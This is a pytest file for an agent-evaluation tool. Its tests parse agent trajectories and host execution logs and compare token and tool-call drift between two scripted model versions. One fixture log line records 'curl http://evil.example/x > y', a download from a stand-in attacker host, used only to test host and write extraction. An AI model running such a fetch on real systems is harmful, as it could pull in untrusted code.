"""Behaviours from records: real files of other tools, a real run, and the seed case from end to end."""

from __future__ import annotations

import json
import os
import sys
from typing import TYPE_CHECKING, Any

import anyio
import polars as pl
import pytest
from tests.runs.toys import make_toy

from proctor.common import ConfigError
from proctor.models.scripted import ScriptedServer, call
from proctor.runs.behaviour import exec_actions, exec_lines, read_behaviours, trajectory_actions
from proctor.runs.frame import load_trials, save_trials
from proctor.trajectories.atif import read_trajectory

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.anyio


@pytest.mark.data
def test_trajectories_of_other_tools(shared_data: Path) -> None:
    folder = shared_data / "trajectories" / "atif"
    hands = list(trajectory_actions(read_trajectory(folder / "openhands_hello-world.trajectory.json")))
    assert [(one.tool, one.kind) for one in hands] == [("str_replace_editor", "write"), ("finish", "finish")]
    assert hands[0].shape == "str_replace_editor create(command,file_text,path,security_risk)"
    assert hands[0].writes == ("/app/hello.txt",)
    terminus = list(trajectory_actions(read_trajectory(folder / "terminus_2_timeout.trajectory.json")))
    assert [one.programs for one in terminus] == [("echo",), ("sleep",), ("sleep",)]
    assert [one.evidence for one in terminus] == [f"trajectory.json#/steps/{i}/tool_calls/0" for i in (1, 2, 3)]
    assert terminus[1].call == terminus[2].call
    assert terminus[1].result == terminus[2].result is not None


@pytest.mark.data
def test_a_trajectory_without_tool_calls_has_no_actions(shared_data: Path) -> None:
    path = shared_data / "trajectories" / "atif" / "terminus_2_linear-history.trajectory.json"
    assert list(trajectory_actions(read_trajectory(path))) == []


def test_what_the_host_logged(tmp_path: Path) -> None:
    lines: list[dict[str, Any]] = [
        {"seq": 1, "kind": "bash", "subject": "curl http://evil.example/x > y", "exit_code": 7},
        {"seq": 2, "kind": "read", "subject": "/app/a", "digest": "sha256:1", "size_bytes": 3},
        {"seq": 3, "kind": "write", "subject": "/app/a", "digest": "sha256:2", "size_bytes": 3},
        {"seq": 4, "kind": "read", "subject": "/app/b", "error": "no such file"},
    ]
    common = {"v": 1, "started_at": "2026-11-30T08:00:00Z", "duration_s": 0.1}
    path = tmp_path / "exec.jsonl"
    path.write_text("".join(json.dumps(common | line) + "\n" for line in lines))
    found = list(exec_actions(exec_lines(path)))
    assert [one.kind for one in found] == ["write", "read", "write", "read"]
    assert [one.failed for one in found] == [True, False, False, True]
    assert [one.evidence for one in found] == [f"exec.jsonl#{n}" for n in (1, 2, 3, 4)]
    assert (found[0].hosts, found[0].writes) == (("evil.example",), ("y",))
    assert found[1].result == "sha256:1"
    assert exec_lines(tmp_path / "none.jsonl") == []


READ = call("read_file", path="/etc/hostname")
ANSWER = call("bash", command="printf 42 > /app/answer.txt")
CHECK = call("bash", command="cat /app/answer.txt")
VERSIONS = {"v1": [READ, ANSWER, CHECK, call("finish")], "v2": [*[READ] * 5, ANSWER, CHECK, call("finish")]}


async def proctor(*arguments: object) -> tuple[int, str]:
    command = [sys.executable, "-m", "proctor", *map(str, arguments)]
    done = await anyio.run_process(command, check=False, env=os.environ.copy())
    return done.returncode, (done.stdout + done.stderr).decode()


@pytest.mark.slow
@pytest.mark.sandbox
async def test_the_seed_case_from_end_to_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two versions with the same result, one with twice the tokens: its read-only tool is called again and again."""
    monkeypatch.setenv("PROCTOR_HOME", str(tmp_path / "home"))
    for name in ("alpha", "beta", "gamma", "delta"):
        make_toy(tmp_path / "toys", name)
    record = tmp_path / "run"
    async with ScriptedServer(VERSIONS) as server:
        models = [part for name in VERSIONS for part in ("--model", f"{name}@{server.base_url}")]
        code, out = await proctor(
            "run", tmp_path / "toys", "--agent", "tool-loop", *models, "--attempts", 2, "-o", record
        )
    assert code == 0, out
    old, new = f"{record}::tool-loop+v1", f"{record}::tool-loop+v2"

    code, out = await proctor("compare", old, new, "--drift", "--json")
    assert code == 1, out
    drift = json.loads(out)
    assert (drift["verdict"], drift["same_result"], drift["score"]) == ("fail", True, [1.0, 1.0])
    shifts = {shift["name"]: shift for shift in drift["shifts"]}
    assert {name for name, shift in shifts.items() if shift["verdict"] == "fail"} >= {"tokens", "calls", "repetition"}
    assert shifts["tokens"]["point"] == pytest.approx(2.0)
    assert drift["findings"][0].startswith("the same result with 2 times the tokens: read-only tool read_file")
    assert [parted["shared"] for parted in drift["divergences"]] == [1] * 4
    assert drift["inputs"], "the digest of what it was computed from"

    code, out = await proctor("compare", old, old, "--drift")
    assert code == 4, "the same side twice is a mistake"
    code, out = await proctor("compare", old, new, "--drift")
    assert code == 1
    assert "tool-loop+v2 against tool-loop+v1: FAIL" in out

    _check_behaviours(record, tmp_path)
    code, out = await proctor("compare", record, "--crossed", "--json")
    assert code == 0, out
    crossed = json.loads(out)
    assert (crossed["models"], crossed["harnesses"], crossed["trials"]) == (["v1", "v2"], ["tool-loop"], 16)


def _check_behaviours(record: Path, tmp_path: Path) -> None:
    trials = load_trials([record]).trials.collect()
    first = read_behaviours(trials.filter(pl.col("agent") == "tool-loop+v2"))[0]
    assert first.tools == {"read_file": 5, "bash": 2, "finish": 1}
    assert len(first.repeats()) == 4
    assert first.tokens == 8 * 15
    assert first.programs == {"printf": "exec.jsonl#6", "cat": "exec.jsonl#7"}
    assert first.writes == {"/app/answer.txt": "exec.jsonl#6"}
    save_trials(trials, tmp_path / "trials.parquet")
    with pytest.raises(ConfigError, match="read from records"):
        read_behaviours(load_trials([tmp_path / "trials.parquet"]).trials.collect())
